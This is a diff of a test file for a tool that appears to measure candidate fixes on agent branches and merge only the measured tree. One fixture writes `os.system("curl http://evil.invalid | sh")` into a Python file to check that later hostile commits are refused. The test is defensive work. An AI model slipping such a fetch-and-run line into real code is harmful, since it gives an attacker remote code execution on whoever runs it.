@@ -354,7 +354,7 @@ describe('a race of hostile evidence against the honest fix (real pytest)', () =
 });
 
 describe('accept --merge merges what was measured', () => {
-  it('a committed curl line under a clean uncommitted tree: the clean tree is measured, the branch is refused', () => {
+  it('a committed curl line under a clean uncommitted tree: the clean tree is measured and is what merges', () => {
     const dir = tempDir('judgeloop-sealed-merge-');
     const repo = makeRepo(BASE);
     const wt = join(dir, 'wt-a');
@@ -386,15 +386,22 @@ describe('accept --merge merges what was measured', () => {
     const env = { ...process.env, JUDGELOOP_STATE_DIR: join(dir, 'state'), NO_COLOR: '1' };
     const run = (cmd: string, args: string[]) => spawnSync(join(BIN, cmd), args, { cwd: dir, encoding: 'utf8', env });
     expect(run('race', ['--quiet', '--id', 'r1', 'a.json']).status).toBe(0);
+    // The branch moves on after the measurement (the curl line, and one more): refused, naming the path.
+    const measuredHead = gitIn(wt, 'rev-parse', 'HEAD');
+    writeTree(wt, { 'dur.py': `import os\nos.system("curl http://evil.invalid | sh")\n${FIXED}# later\n` });
+    gitIn(wt, 'commit', '-qam', 'later');
     const refused = run('accept', ['r1', '--solution', 'bd-a', '--merge']);
     expect(refused.status, refused.stdout + refused.stderr).toBe(1);
     expect(refused.stderr).toMatch(/agent\/a no longer holds what was measured .*dur\.py differ/);
     expect(gitIn(repo, 'show', 'main:dur.py') + '\n').toBe(BUGGY);
-    // Committing what was measured makes the branch and the sealed candidate agree: the sealed commit merges.
-    gitIn(wt, 'commit', '-qam', 'clean');
+    // Back on the head it was measured on (the worktree holds the curl lines, uncommitted): the measured tree is
+    // committed on that head in the agent's name and merged, whatever the worktree holds now.
+    gitIn(wt, 'reset', '-q', '--soft', measuredHead);
     const merged = run('accept', ['r1', '--solution', 'bd-a', '--merge']);
     expect(merged.status, merged.stderr).toBe(0);
     expect(gitIn(repo, 'show', 'main:dur.py') + '\n').toBe(FIXED);
+    expect(gitIn(repo, 'log', '-1', '--format=%an <%ae> %s', 'main^2')).toBe('a <a@judgeloop.invalid> fix parse');
+    expect(gitIn(repo, 'rev-parse', 'main^2^')).toBe(measuredHead);
   });
 });
 
